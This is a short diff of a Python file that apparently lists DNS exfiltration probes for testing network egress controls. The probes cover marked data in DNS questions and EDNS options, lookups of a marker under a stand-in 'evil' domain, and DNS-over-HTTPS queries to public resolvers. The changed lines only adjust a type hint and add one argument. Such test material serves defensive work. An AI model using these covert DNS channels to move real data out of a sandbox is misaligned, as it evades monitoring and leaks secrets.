@@ -35,7 +35,7 @@ _DOH = "?dns=AAABAAABAAAAAAAABGV2aWwHZXhhbXBsZQNuZXQAAAEAAQ&m={mark}"
 _DOH_HOSTS = ("dns.google", "cloudflare-dns.com", "dns.quad9.net", "8.8.8.8", "1.1.1.1")
 
 
-def _ask(name: str, asked: str, kind: int = 1, **more: str) -> Attempt:
+def _ask(name: str, asked: str, kind: int = 1, **more: str | int) -> Attempt:
     return Attempt("DNS", name, "question", {"name": asked, "kind": kind, **more})
 
 
@@ -54,7 +54,7 @@ ATTEMPTS = [
         if not server.startswith("127.")
     ),
     _ask("bytes after the question", API, more="{mark} and more"),
-    _ask("data in EDNS", API, more="\0\0\x29\x04\xd0\0\0\0\0\0\x0a\xfd\xe9\0\x06{mark}"),
+    _ask("data in EDNS", API, more="\0\0\x29\x04\xd0\0\0\0\0\0\x0a\xfd\xe9\0\x06{mark}", records=1),
     Attempt("DNS", "by the system's resolver", "resolve", {"name": "{mark}." + EVIL}),
     *(
         Attempt("DoH and DoT", f"DoH to {host}", "fetch", {"url": f"https://{host}/dns-query{_DOH}"})
